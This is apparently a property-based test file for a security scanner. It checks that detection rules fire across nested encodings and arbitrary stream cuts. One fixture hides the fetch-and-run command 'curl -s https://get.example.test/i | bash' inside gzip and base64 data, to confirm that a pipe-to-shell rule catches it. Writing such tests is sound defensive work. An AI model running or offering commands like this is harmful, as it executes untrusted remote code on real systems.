import { gzipSync } from 'node:zlib';
import test from 'ava';
import * as fc from 'fast-check';
import { engineFor } from '../../src/detect/engine-for.ts';
import { RULES } from '../../src/detect/rules/index.ts';
import { ruleSetOf } from '../../src/detect/rules/rule-set.ts';
import { TextScanner } from '../../src/detect/scanner.ts';
import { spotterFor } from '../../src/detect/spotter-for.ts';
import { cutAt, cuts } from '../support/cut.ts';
import { packFiles } from '../support/pack-files.ts';
import { WRITTEN_FORMS } from '../support/written-forms.ts';

const FILES = packFiles()
  .filter(({ pack }) => pack !== 'thorough')
  .map(({ file }) => file);
const settings = { maskSecrets: true, maxFindings: 32, fingerprintKey: '', honoursAllowComments: false };
const engine = engineFor({ rules: FILES, ...settings });
const spotter = spotterFor(ruleSetOf(FILES));

function isFound(rule: string, bytes: Uint8Array): boolean {
  const window = { bytes, base: 0, ownFrom: 0, ownTo: bytes.length, part: 'response.body' } as const;
  return engine(window).findings.some((finding) => finding.rule === rule);
}

function isScanned(rule: string, chunks: readonly Uint8Array[]): boolean {
  const scanner = new TextScanner(spotter, 'response.body', 65_536);
  let isAny = false;
  const take = (): void => {
    for (let window = scanner.take(); window !== undefined; window = scanner.take())
      isAny ||= engine(window).findings.some((finding) => finding.rule === rule);
  };
  for (const chunk of chunks) {
    scanner.write(chunk);
    take();
  }
  scanner.end();
  take();
  return isAny;
}

function around(text: string): Uint8Array {
  return new Uint8Array(Buffer.from(`some words\n${text}\nand more words`));
}

/** Over more blanks than this, with soft line ends among them, no glance looks. */
const LONG_BLANK = ' '.repeat(40);

/** What these look for is itself taken away where a text is undisguised, and left only by one order of all steps. */
const OF_DISGUISES = /^hidden_/;

/** Every hit that is found on a line among others. */
const PLANTS = [...RULES.map((rule) => ({ ...rule, anchors: [''] })), ...FILES]
  .flatMap(({ id, hits, anchors }) => hits.map((hit) => ({ id, hit: `- ${hit} -`, anchors })))
  .filter(
    ({ id, hit }) =>
      hit.length >= 22 && !OF_DISGUISES.test(id) && !hit.includes(LONG_BLANK) && isFound(id, around(hit)),
  );

const plant = fc.constantFrom(...PLANTS);
const form = fc.constantFrom(...Object.entries(WRITTEN_FORMS));

test('a hit that is found in clear is found in every pair of forms', (t) => {
  fc.assert(
    fc.property(plant, form, form, ({ id, hit }, [outer, writeOuter], [inner, writeInner]) => {
      const text = writeOuter(writeInner(hit));
      t.true(isFound(id, around(text)), `${id} in ${inner} in ${outer}: ${hit}`);
    }),
    { numRuns: 600 },
  );
});

/** What anchors must not hold to be looked for in a form; what an encoding is noticed by: text of one kind in a row. */
const NOT_NOTICED: Readonly<Record<string, RegExp>> = {
  'a URL': /[^\w.~-]/,
  'short lines of quoted-printable': /=|[^\0-\x7f]/,
};
const OF_ONE_KIND = /[\0-\x7f]{18}|[^\0-\x7f]{8}/;

function isNoticed(name: string, { hit, anchors }: (typeof PLANTS)[number]): boolean {
  if (/base64url|base64$|hex/.test(name) && name !== 'gzip in base64') return OF_ONE_KIND.test(hit);
  const hidden = NOT_NOTICED[name];
  return hidden === undefined || anchors.some((anchor) => hit.includes(anchor) && !hidden.test(anchor));
}

test('and gets a window in each, wherever it is cut', (t) => {
  fc.assert(
    fc.property(plant, form, cuts, (one, [name, write], offsets) => {
      const { id, hit } = one;
      fc.pre(isNoticed(name, one));
      const bytes = around(write(hit));
      t.true(isScanned(id, cutAt(bytes, offsets)), `${id} in ${name}: ${hit}`);
      t.true(
        isScanned(
          id,
          cutAt(
            bytes,
            [...bytes.keys()].filter((at) => at % 7 === 0),
          ),
        ),
        `${id} in ${name}: ${hit}`,
      );
    }),
    { numRuns: 600 },
  );
});

test('what is compressed is read far beyond the reach of a rule, however it is cut', (t) => {
  const noise = Array.from({ length: 1200 }, (_, index) => `line ${index} ${Math.sin(index)}\n`).join('');
  const file = gzipSync(`${noise}curl -s https://get.example.test/i | bash\n${noise}`).toString('base64');
  t.true(file.length > 30_000);
  fc.assert(
    fc.property(cuts, (offsets) => {
      const bytes = around(JSON.stringify({ note: JSON.stringify({ file }) }));
      t.true(isScanned('pipe_to_shell', cutAt(bytes, offsets)));
    }),
    { numRuns: 10 },
  );
});
